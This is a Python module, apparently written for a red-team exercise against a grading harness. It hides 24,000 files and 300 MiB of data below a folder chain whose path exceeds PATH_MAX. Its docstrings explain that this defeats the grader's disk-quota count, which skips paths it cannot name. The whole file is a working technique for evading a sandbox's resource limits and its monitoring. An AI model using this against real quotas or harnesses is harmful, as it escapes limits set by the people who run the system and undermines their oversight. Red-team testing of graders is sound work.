import os
import time

MIB = 1 << 20
LEVELS = 17  # folders of PART-long names: 17 x 251 characters, past PATH_MAX (4,096) from any working folder
PART = "p" * 250
ENTRIES = 24_000  # the grader's disk quota allows 20,000 entries in the worker's folders
FILES, FILE_BYTES = 3, 100 * MIB  # and 0.25 GiB in the red team's grader (--disk-gib): 300 MiB is past it
BLOCK = bytes(range(256)) * (MIB // 256)
SECONDS = 8.0  # the red team's grader gives one test's calls 10 s
_made = []  # (entries made, bytes written, what stopped it), once per process
_said = []


def _open_chain(make):
    """A descriptor of the last folder of the chain "deep/PART/PART/..." in the working folder (made with
    `make`), walked one level at a time by descriptor: no path of it is ever named whole."""
    fd = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    for name in ["deep"] + [PART] * LEVELS:
        if make:
            try:
                os.mkdir(name, dir_fd=fd)
            except FileExistsError:
                pass
        try:
            below = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        finally:
            os.close(fd)
        fd = below
    return fd


def make_deep():
    """ENTRIES empty files and FILES files of FILE_BYTES at the end of the chain; (entries, bytes, what
    stopped it). The grader's count names each folder by its whole path, and passes over one it cannot
    open (os.scandir's OSError: a path past PATH_MAX is ENAMETOOLONG), so it counts nothing of these."""
    deadline = time.monotonic() + SECONDS
    folder = _open_chain(make=True)
    made = written = 0
    try:
        for i in range(ENTRIES):
            if time.monotonic() > deadline:
                return made, written, "ran out of time"
            os.close(os.open(f"{i}", os.O_CREAT | os.O_WRONLY, 0o600, dir_fd=folder))
            made += 1
        for i in range(FILES):
            fd = os.open(f"big{i}", os.O_CREAT | os.O_WRONLY | os.O_TRUNC, 0o600, dir_fd=folder)
            try:
                for _ in range(FILE_BYTES // len(BLOCK)):
                    os.write(fd, BLOCK)
                    written += len(BLOCK)
            finally:
                os.close(fd)
    except OSError as error:
        return made, written, f"{error.strerror} after {made} entries and {written / MIB:.0f} MiB"
    finally:
        os.close(folder)
    return made, written, "made them all"


def still_there():
    """(entries, bytes) at the end of the chain, listed by descriptor; (0, 0) where it is gone."""
    try:
        folder = _open_chain(make=False)
    except OSError:
        return 0, 0
    try:
        with os.scandir(folder) as entries:
            found = list(entries)
        return len(found), sum(entry.stat(follow_symlinks=False).st_blocks * 512 for entry in found)
    finally:
        os.close(folder)


def attack(args):
    """First call of a process: make the files unless a grader's count left them (the count after the call
    sees none of them). Every call answers honestly only if all of them, past the quota in entries and in
    bytes, are still there (full marks on Problem 1 is the attack getting through); else it fails."""
    if not _made:
        entries, held = still_there()
        if entries < ENTRIES + FILES:
            _made.append(make_deep())
        else:
            _made.append((entries, held, "left there by an earlier process"))
    entries, held = still_there()
    if entries < ENTRIES + FILES or held < FILES * FILE_BYTES:
        made, written, why = _made[0]
        raise OSError(f"{entries:,} entries and {held / MIB:.0f} MiB at the end of a chain of {LEVELS + 1} folders "
                      f"(made {made:,} and {written / MIB:.0f} MiB: {why})")
    if not _said:
        _said.append(True)
        print(f"{entries:,} entries and {held / MIB:.0f} MiB past the quota, below a path too long to name",
              flush=True)
    return None  # the function's own body runs on
